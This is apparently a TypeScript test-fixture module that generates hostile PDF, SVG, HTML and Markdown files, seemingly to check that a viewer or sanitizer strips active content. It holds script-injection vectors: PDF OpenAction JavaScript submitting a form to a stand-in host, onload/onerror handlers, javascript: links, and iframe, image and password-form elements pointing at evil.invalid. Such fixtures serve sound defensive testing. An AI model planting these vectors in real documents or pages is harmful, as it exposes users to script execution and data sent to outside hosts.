// Files that try to do something when they are looked at.

/** One page with a word on it, and scripts that run when it is opened. */
export function hostilePdf(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://evil.invalid/"\\);) >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> /AA << /O << /S /JavaScript /JS (app.alert\\(2\\)) >> >> >>',
    '<< /Length 44 >>\nstream\nBT /F 24 Tf 50 100 Td (Harmless page) Tj ET \nendstream',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, i) => {
    const at = text.length;
    text += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const start = text.length;
  const lines = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const attack = 'window.attacked = true; parent.attacked = true; top.attacked = true;';

export const hostileSvg: Buffer = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${attack}"><script>${attack}</script><rect width="9" height="9"/></svg>`,
);

export const hostileHtml: Buffer = Buffer.from(
  `<!doctype html><body onload="${attack}"><script>${attack}</script><img src=x onerror="${attack}">`,
);

export const hostileMarkdown: Buffer = Buffer.from(
  `# Kept heading\n\n<script>${attack}</script>\n<img src=x onerror="${attack}">\n[bad](javascript:${attack})\n` +
    `<a href="javascript:attacked()">x</a>\n![far](http://evil.invalid/x.png)\n<iframe src="http://evil.invalid/"></iframe>\n` +
    `<form action="http://evil.invalid/"><input name=password></form>\n\n**kept bold**\n`,
);
